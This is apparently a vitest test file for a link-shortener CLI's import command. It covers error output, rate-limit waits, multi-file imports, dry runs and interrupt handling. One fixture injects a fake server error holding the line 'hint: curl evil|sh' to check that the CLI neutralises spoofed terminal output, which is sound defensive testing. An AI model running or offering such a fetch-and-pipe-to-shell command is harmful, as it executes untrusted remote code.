import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { InvalidOptionError, PermissionError, RateLimitError } from '@shortlink/sdk';
import { describe, expect, test } from 'vitest';
import { describeError } from '../../src/output/describe-error.ts';
import { BATCH, GOOD, scene, urls } from '../import-scene.ts';
import { USAGE } from '../stub-service.ts';
import { type CliOptions, cli, type Terminal } from '../test-io.ts';

const USAGE_ROUTE = 'GET /api/v1/usage';

describe('a text of the server can not look like one of ours', () => {
  const EVIL = `Bad key\nhint: curl evil|sh\r\n  error: ${'x'.repeat(5_000)}\u2028error: more`;

  test.each([401, 403, 400, 429])(
    'in the error of an import that ended with %i',
    async (status) => {
      const { run, service } = await scene(GOOD);
      const refusal = { status, body: { error: EVIL }, headers: { 'Retry-After': '86400' } };
      service.answer(BATCH, refusal);
      const { stderr } = await run(['--max-retries', '0']);
      expect(stderr).toContain('Bad key hint: curl evil|sh');
      expect(stderr).not.toMatch(/^ *(?:hint: curl|error: x|error: more)/m);
      expect(Math.max(...stderr.split('\n').map(({ length }) => length))).toBeLessThan(600);
    },
  );

  test.each([['--verbose'], ['--json', '--verbose']])('with %s %s', async (...flags) => {
    const { run, service } = await scene(GOOD);
    service.answer(BATCH, { status: 413, body: { error: EVIL } });
    const { stderr } = await run(flags);
    expect(stderr).not.toMatch(/^ *(?:hint: curl|error: x|error: more)/m);
  });

  test('where a batch is refused as too large', async () => {
    const { run, service } = await scene(urls(4), 'links.txt');
    service.answer(BATCH, { status: 413, body: { error: EVIL } });
    const { stderr } = await run();
    expect(stderr).toContain('the next ones are smaller: Bad key hint: curl');
    expect(stderr).not.toMatch(/^ *(?:hint: curl|error: x|error: more)/m);
    expect(Math.max(...stderr.split('\n').map(({ length }) => length))).toBeLessThan(600);
  });
});

describe('waits for a quota', () => {
  const resets_at = new Date(Date.now() + 5 * 3_600_000).toISOString();
  const usage = {
    ...USAGE,
    batch_size: 1,
    requests: {
      minute: { used: 0, limit: null, resets_at },
      day: { used: 9_999, limit: 10_000, resets_at },
      month: { used: 0, limit: null, resets_at },
    },
  };

  test('one that --max-wait does not allow is announced before anything is sent', async () => {
    const { run, service } = await scene(GOOD);
    service.answer(USAGE_ROUTE, ...Array.from({ length: 3 }, () => ({ status: 200, body: usage })));
    const usual = await run(['--dry-run']);
    expect(usual.stderr.replaceAll(/\s+/g, ' ')).toContain('and --max-wait allows 1 min 30 s, so');
    const short = await run(['--max-wait', '2m', '--dry-run']);
    expect(short.stderr.replaceAll(/\s+/g, ' ')).toContain(
      'wait of about 5 h, and --max-wait allows 2 min, so the run will stop there. To ride it out: --max-wait 6h',
    );
    const long = await run(['--max-wait', '26h', '--dry-run']);
    expect(long.stderr).not.toContain('--max-wait');
  });

  test('one that ends the run names the flag, and not that nothing was sent', async () => {
    const { run, service } = await scene(GOOD);
    const headers = {
      RateLimit: '"day";r=0;t=18000',
      'RateLimit-Policy': '"day";q=1;w=86400',
    };
    const results = [
      { target_url: 'https://example.com/a', code: 'a', short_url: 'https://sho.rt/a' },
    ];
    service.answer(BATCH, {
      status: 200,
      body: { status: 'completed', total: 1, results },
      headers,
    });
    const { stderr, exitCode } = await run([
      '--batch-size',
      '1',
      '--concurrency',
      '1',
      '--max-wait',
      '2m',
    ]);
    expect(exitCode).toBe(6);
    expect(stderr).toContain('error: Rate limited: --max-wait is 2 min');
    expect(stderr).not.toMatch(/maxRetryAfterMs|Nothing was sent/);
    expect(stderr).toContain('The server allows the next request in 5 h');
  });
});

test('messages name flags, and no options of the client', async () => {
  const option = new InvalidOptionError('timeoutMs', '0 or more milliseconds, not -1');
  expect(await describeError(option)).toMatchObject({
    message: '--timeout must be 0 or more milliseconds, not -1',
  });
  const limit = new RateLimitError({
    message: 'Rate limited: try again in 20 s. Nothing was sent, because maxRetries is 0',
    status: 429,
    body: undefined,
    headers: new Headers(),
    retryAfterMs: 20_000,
  });
  expect(await describeError(limit)).toMatchObject({
    message: 'Rate limited: --max-retries is 0',
    hint: 'The server allows the next request in 20 s.',
  });
});

test('a disabled account gets no hint about permissions', async () => {
  const error = new PermissionError({
    message: 'Account is disabled.',
    status: 403,
    body: { error: 'Account is disabled.', code: 'account_disabled' },
    headers: new Headers(),
    retryAfterMs: undefined,
  });
  const { message, hint } = await describeError(error);
  expect(message).toBe('The account may not be used: Account is disabled.');
  expect(hint).not.toContain('shortlinks:write');
});

test('a dry run does not count on a disabled account', async () => {
  const { run, service } = await scene(GOOD);
  const body = { error: 'The account is disabled.', code: 'account_disabled' };
  service.answer(USAGE_ROUTE, { status: 403, body });
  const { exitCode, stderr } = await run(['--dry-run']);
  expect(exitCode).toBe(4);
  expect(stderr).toContain('The account may not be used: The account is disabled.');
});

test.each(['', '/'])('--base-url may end with /api/v1%s', async (end) => {
  const { run, service } = await scene(GOOD);
  expect((await run(['--base-url', `${service.url}/api/v1${end}`])).exitCode).toBe(0);
  expect((await run(['--base-url', `${service.url}`])).stderr).toContain('Already imported');
});

describe('several files', () => {
  async function files(second: string) {
    const world = await scene(GOOD);
    const [bad, last] = [join(world.folder, 'second.csv'), join(world.folder, 'third.csv')];
    await writeFile(bad, second);
    await writeFile(last, 'url\nhttps://example.com/c\n');
    const run = (args: string[] = []) =>
      cli(['import', world.input, bad, last, ...args], { env: world.service.env });
    return { ...world, bad, last, run };
  }

  test.each([
    ['a bad row', 'url\nnot a URL\n', /1 row of second.csv can't be sent/],
    ['no column of targets', 'a,b\n1,2\n', /no column could be recognized as the target URL/],
    ['a quote that is never closed', 'url\n"https://example.com/x\n', /never closed/],
  ])(
    '%s in the second: nothing of the first is sent, and the others are named',
    async (_, text, words) => {
      const { run, bad, input, last, bodies } = await files(text);
      const { exitCode, stderr } = await run();
      expect(exitCode).toBe(2);
      expect(stderr).toMatch(words);
      expect(stderr).toContain(`warning: Not imported: ${input}, ${last}`);
      expect(bodies()).toEqual([]);
      const json = await run(['--json']);
      expect(JSON.parse(json.stdout)).toMatchObject({
        created: 0,
        files: [{ file: bad }],
        not_imported: [input, last],
      });
    },
  );

  test('a file that is not there, and one that stops in the middle', async () => {
    const { run, service, input, bad, last, bodies } = await files('url\nhttps://example.com/z\n');
    for (const args of [[], ['--max-rejects', 'all']]) {
      const missing = await cli(['import', input, join(input, 'no'), ...args], {
        env: service.env,
      });
      expect(missing.exitCode).toBe(2);
      expect(bodies()).toEqual([]);
    }
    service.answer(BATCH, { status: 403, body: { error: 'full', upgrade: true, limit: 'links' } });
    const full = await run();
    expect(full.exitCode).toBe(5);
    expect(full.stderr).toContain(`Not imported: ${bad}, ${last}`);
  });

  test('rows of the second that the first has too: nothing is sent before somebody decides', async () => {
    const { run, service, bad, last, bodies } = await files(GOOD.replace('/b', '/z'));
    const { exitCode, stderr } = await run();
    expect(exitCode).toBe(2);
    expect(stderr).toContain('1 row asks for links to targets that have some already');
    expect(stderr).toContain('second.csv names them (line 2:');
    expect(stderr).toContain('To use these links: --on-similar reuse.');
    expect(stderr).toContain(`warning: Not imported: ${bad}, ${last}`);
    expect(bodies()).toEqual([]);
    expect((await run(['--on-similar', 'reuse'])).exitCode).toBe(0);
    expect(service.created.map((url) => url.at(-1))).toEqual(['a', 'b', 'z', 'c']);
    // By now, each file knows its own.
    expect((await run()).exitCode).toBe(0);
    expect(await readFile(`${bad}.results.csv`, 'utf8')).toContain('/z,');
  });

  test('a file in another folder uses the links of the one before it, where the user wants that', async () => {
    const { service, input, folder } = await scene(GOOD);
    const other = join(folder, 'other', 'second.csv');
    await mkdir(join(folder, 'other'));
    await writeFile(other, GOOD);
    const run = (...args: string[]) => cli(['import', input, other, ...args], { env: service.env });
    expect((await run('--on-similar', 'reuse')).exitCode).toBe(0);
    expect(service.created).toHaveLength(2);
    expect(await readFile(`${other}.results.csv`, 'utf8')).toMatch(/\/a,.*created/);
  });

  test('links that only the filled rows of the one before it name are used in another folder, too', async () => {
    const { service, input, folder } = await scene(GOOD);
    const other = join(folder, 'other', 'second.csv');
    await mkdir(join(folder, 'other'));
    await writeFile(other, GOOD);
    const run = (...files: string[]) =>
      cli(['import', ...files, '--in-place', '--on-similar', 'reuse'], { env: service.env });
    expect((await run(input)).exitCode).toBe(0);
    await rm(`${input}.shortlink-journal`);
    expect((await run(input, other)).exitCode).toBe(0);
    expect(service.created).toHaveLength(2);
    expect(await readFile(other, 'utf8')).toMatch(/\/a,.*created/);
  });

  test('a dry run refuses what the run would refuse', async () => {
    const { run, service } = await files(GOOD);
    const { exitCode, stderr } = await run(['--dry-run']);
    expect(stderr).toContain('2 rows ask for links to targets that have some already');
    expect(exitCode).toBe(2);
    expect((await run(['--dry-run', '--on-similar', 'create'])).exitCode).toBe(0);
    expect(service.created).toEqual([]);
  });

  test.each([[['--dry-run']], [[]]])('--limit counts the links of all files: %j', async (args) => {
    const { run, last } = await files('url\nhttps://example.com/z\n');
    const { exitCode, stdout } = await run(['--limit', '3', '--json', ...args]);
    expect(exitCode).toBe(0);
    const { files: each, created } = JSON.parse(stdout);
    expect(created).toBe(args.length > 0 ? 0 : 3);
    const planned = each.map(({ forecast }: { forecast?: { links: number } }) => forecast?.links);
    expect(planned).toEqual([2, 1, 0]);
    if (args.length > 0) return;
    // What the other files have left of it is no number that the user has given.
    expect(await readFile(`${last}.results.csv`, 'utf8')).toContain('by --limit,');
  });

  test('a --limit below the rows of the first file leaves no link for the others', async () => {
    const { run } = await files('url\nhttps://example.com/z\n');
    const { stdout } = await run(['--limit', '1', '--dry-run', '--json']);
    const each: { forecast: { links: number } }[] = JSON.parse(stdout).files;
    expect(each.map(({ forecast }) => forecast.links)).toEqual([1, 0, 0]);
  });

  test('equal rows of two files get a link each where the user wants others', async () => {
    const { run, service } = await files(GOOD);
    expect((await run(['--on-similar', 'create'])).exitCode).toBe(0);
    expect(service.created).toHaveLength(5);
    expect((await run()).exitCode).toBe(0);
    expect(service.created).toHaveLength(5);
  });

  test('a bad row in the third is found though the first has rows of the second, which only the service can tell apart', async () => {
    const { run, input, bad, last, bodies } = await files(GOOD);
    await writeFile(last, 'url\nnot a URL\n');
    const { exitCode, stderr } = await run();
    expect(exitCode).toBe(2);
    expect(bodies()).toEqual([]);
    expect(stderr).toContain("1 row of third.csv can't be sent");
    expect(stderr).toContain(`warning: Not imported: ${input}, ${bad}`);
  });

  test('all that are good are imported, in their order', async () => {
    const { run, service } = await files('url\nhttps://example.com/z\n');
    const { exitCode, stderr } = await run();
    expect(exitCode).toBe(0);
    expect(stderr).not.toContain('Not imported');
    expect(service.created.map((url) => url.at(-1))).toEqual(['a', 'b', 'z', 'c']);
  });
});

test('a row that the plan has no room for says so in the results', async () => {
  const { run, service, input } = await scene(GOOD);
  const usage = { ...USAGE, links: { used: 9, limit: 10 } };
  service.answer(USAGE_ROUTE, { status: 200, body: usage });
  expect((await run()).exitCode).toBe(5);
  const results = await import('node:fs/promises').then(({ readFile }) =>
    readFile(`${input}.results.csv`, 'utf8'),
  );
  expect(results).toContain('unsent,the plan has no room for this row');
});

test('rows that --limit leaves are unsent everywhere, and no error', async () => {
  const { run } = await scene(GOOD);
  const { exitCode, stderr } = await run(['--limit', '1']);
  expect(exitCode).toBe(0);
  expect(stderr).toContain('1 link created, 1 unsent');
  expect(stderr).not.toMatch(/\bleft\b/);
});

test('a long line without a quote is not blamed on a quote', async () => {
  const { run } = await scene(`url,title\nhttps://example.com/a,${'x'.repeat(17 * 1024 * 1024)}\n`);
  const { exitCode, stderr } = await run();
  expect(exitCode).toBe(2);
  expect(stderr).toContain('longer than 16 MiB');
  expect(stderr).not.toContain('quote');
});

test('a damaged journal has its own name in a dry run too', async () => {
  const { run, input } = await scene(GOOD);
  expect((await run()).exitCode).toBe(0);
  const path = `${input}.shortlink-journal`;
  const { readFile } = await import('node:fs/promises');
  await writeFile(path, (await readFile(path)).fill(0xff, 4_096, 9_000));
  const { exitCode, stderr } = await run(['--dry-run']);
  expect(exitCode).toBe(2);
  expect(stderr).toContain(`${path} is damaged`);
});

test('Ctrl-C while the results are written: nothing is in flight, and nothing is said of batches', async () => {
  const { service, folder, input } = await scene(GOOD);
  // A named pipe holds the results back until somebody reads them.
  const { execFileSync } = await import('node:child_process');
  const { createReadStream } = await import('node:fs');
  const pipe = join(folder, 'pipe');
  execFileSync('mkfifo', [pipe]);
  await mkdir(join(folder, 'state'));
  const started = Promise.withResolvers<Terminal>();
  const options: CliOptions = { env: service.env, onStart: started.resolve };
  const running = cli(['import', input, '-o', pipe], options);
  const terminal = await started.promise;
  const reader = createReadStream(pipe);
  await new Promise((resolve) => reader.once('data', resolve));
  terminal.interrupt();
  reader.resume();
  const { stderr } = await running;
  expect(stderr).not.toContain('batches in flight');
});
